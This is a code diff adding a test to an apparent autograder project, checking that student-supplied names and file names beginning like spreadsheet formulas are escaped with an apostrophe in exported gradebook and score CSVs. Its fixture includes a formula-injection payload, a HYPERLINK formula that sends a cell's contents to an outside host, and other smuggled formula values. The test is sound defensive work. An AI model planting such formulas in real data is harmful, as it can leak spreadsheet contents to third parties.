@@ -329,3 +329,51 @@ def test_a_member_that_cannot_be_written_is_said_and_the_rest_unpacked(tmp_path,
     entries, notes = gradescope_export.open_export(archive, tmp_path / "work")
     assert len(notes) == 2 and "could not be unpacked (File exists)" in notes[0]
     assert [e.notebook.read_bytes() for e in entries] == list(notebooks)
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path):
+    """A name or file name is the student's own text: one starting like a formula (=, +, -, @)
+    reaches every CSV with a leading apostrophe, so a spreadsheet shows it and does not run it;
+    scores and ordinary text are written as they are."""
+    from mnist_grader import results
+
+    formula = '=HYPERLINK("http://example.com/?"&A1,"open")'
+    graded = {
+        "tests": [{"name": "q4a", "score": 2, "max_score": 2}],
+        "score": 2,
+        "extra_data": {
+            "submission": "+cmd.ipynb",
+            "status": "graded",
+            "note": "@SUM(1,1)",
+            "submitters": [{"name": formula, "sid": "-1", "email": "ada@example.edu"}],
+        },
+    }
+    row = results.gradebook_row(graded, ["q4a"], identity_columns=True)
+    results.write_gradebook([row], ["q4a"], tmp_path / "gradebook.csv", identity_columns=True)
+    results.write_score_uploads([graded], tmp_path)
+
+    with (tmp_path / "gradebook.csv").open() as handle:
+        (book,) = csv.DictReader(handle)
+    assert (book["file"], book["name"], book["sid"], book["note"]) == (
+        "'+cmd.ipynb",
+        "'" + formula,
+        "'-1",
+        "'@SUM(1,1)",
+    )
+    assert (book["email"], book["total"], book["q4a"], book["status"]) == (
+        "ada@example.edu",
+        "2",
+        "2",
+        "graded",
+    )
+    with (tmp_path / "gradescope_scores.csv").open() as handle:
+        (scores,) = csv.DictReader(handle)
+    assert (scores["Name"], scores["SID"], scores["Email"], scores["Total Score"]) == (
+        "'" + formula,
+        "'-1",
+        "ada@example.edu",
+        "2",
+    )
+    with (tmp_path / "canvas_scores.csv").open() as handle:
+        (canvas,) = csv.DictReader(handle)
+    assert (canvas["Student"], canvas["SIS User ID"]) == ("'" + formula, "'-1")
